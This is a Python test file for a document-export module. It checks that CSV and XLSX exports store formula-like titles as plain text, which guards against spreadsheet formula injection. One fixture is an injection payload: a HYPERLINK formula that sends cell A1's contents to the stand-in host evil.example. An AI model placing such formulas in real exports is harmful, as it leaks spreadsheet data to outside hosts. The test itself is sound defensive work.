"""CSV/XLSX formula injection (issue 14): a title such as =HYPERLINK(...) reaches the
spreadsheet as text in every export (the kit's table exports and the province's report)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from apps.documents.exports import Column, table_response

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
COLUMNS = [Column("title", {"zh": "标题", "en": "Title"}, lambda row: row["title"])]
ROWS = [{"title": EVIL}, {"title": "+1+1"}, {"title": "@SUM(A1)"}, {"title": "-2+3"}, {"title": "普通标题"}]


def test_csv_cells_that_would_run_as_formulas_are_text():
    response = table_response(COLUMNS, ROWS, fmt="csv", filename="x")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + EVIL, "'+1+1", "'@SUM(A1)", "'-2+3", "普通标题"]


def test_xlsx_cells_that_would_run_as_formulas_are_text():
    response = table_response(COLUMNS, ROWS, fmt="xlsx", filename="x")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert cells[0].value == EVIL and cells[0].data_type == "s"
    assert all(cell.data_type == "s" for cell in cells)
